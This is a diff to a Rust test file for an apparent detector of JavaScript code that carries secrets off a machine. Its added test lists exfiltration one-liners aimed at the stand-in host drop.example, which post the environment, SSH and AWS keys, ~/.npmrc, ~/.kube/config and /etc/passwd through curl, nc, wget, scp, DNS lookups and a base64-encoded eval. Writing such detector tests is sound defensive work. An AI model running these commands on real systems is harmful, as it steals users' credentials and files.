@@ -92,8 +92,8 @@ fn what_is_asked_of_the_environment_is_not_the_environment() {
     ] {
         assert_eq!(sent(body), [""; 0], "{body}");
     }
-    assert_eq!(sent("process.env.ACME_TOKEN"), ["secret ACME_TOKEN"]);
-    assert_eq!(sent("({ ...process.env }).ACME_TOKEN"), ["secret ACME_TOKEN"]);
+    assert_eq!(sent("process.env.ACME_TOKEN"), ["unclaimed-secret ACME_TOKEN"]);
+    assert_eq!(sent("({ ...process.env }).ACME_TOKEN"), ["unclaimed-secret ACME_TOKEN"]);
 }
 
 #[test]
@@ -142,4 +142,45 @@ fn what_is_at_home_or_is_only_looked_at_is_nothing() {
     }
     let own = "fetch('https://sts.amazonaws.com/', { body: readFileSync(home + '/.aws/credentials') });";
     assert_eq!(carried_by(own), [""; 0]);
+}
+
+#[test]
+fn commands_carry_what_shells_put_in() {
+    for (code, carried) in [
+        ("execSync('env | base64 | curl -sd @- https://drop.example/');", "environment `env`"),
+        ("execSync('curl -d \"$NPM_TOKEN\" drop.example');", "secret NPM_TOKEN"),
+        ("execSync('curl -d \"$(cat ~/.npmrc | base64)\" https://drop.example/');", "credential-file ~/.npmrc"),
+        ("execSync('nc drop.example 80 < ~/.ssh/id_rsa');", "credential-file ~/.ssh/id_rsa"),
+        ("execSync('tar czf - ~/.aws | nc drop.example 80');", "credential-file ~/.aws"),
+        ("execSync('nslookup $(hostname | cut -d . -f 1).drop.example');", "host-identity `hostname`"),
+        (
+            "spawnSync('curl', ['-F', `f=@${home}/.aws/credentials`, 'https://drop.example/']);",
+            "credential-file ~/.aws/credentials",
+        ),
+        ("spawnSync('wget', ['--post-file=/etc/passwd', 'http://drop.example/']);", "system-file /etc/passwd"),
+        ("spawnSync('sh', ['-c', 'scp ~/.kube/config me@drop.example:/tmp']);", "credential-file ~/.kube/config"),
+        (
+            "execSync(`node -e \"fetch('https://drop.example/', { body: JSON.stringify(process.env) })\"`);",
+            "environment process.env",
+        ),
+        (
+            "eval(Buffer.from('ZmV0Y2goJ2h0dHBzOi8vZHJvcC5leGFtcGxlLycsIHsgYm9keTogSlNPTi5zdHJpbmdpZnkocHJvY2Vzcy5lbnYpIH0p', 'base64').toString());",
+            "environment process.env",
+        ),
+    ] {
+        assert_eq!(carried_by(code), [carried], "{code}");
+    }
+}
+
+#[test]
+fn commands_that_fetch_or_ask_carry_nothing() {
+    for code in [
+        "execSync('curl -fsSL -o a.json https://drop.example/');",
+        "execSync('env CI=1 curl https://drop.example/');",
+        "execSync('cat ~/.npmrc > copy; curl https://drop.example/');",
+        "spawnSync('ssh', ['-i', `${home}/.ssh/id_rsa`, 'drop.example', 'uptime']);",
+        "spawnSync('dig', ['+short', 'drop.example']);",
+    ] {
+        assert_eq!(carried_by(code), [""; 0], "{code}");
+    }
 }
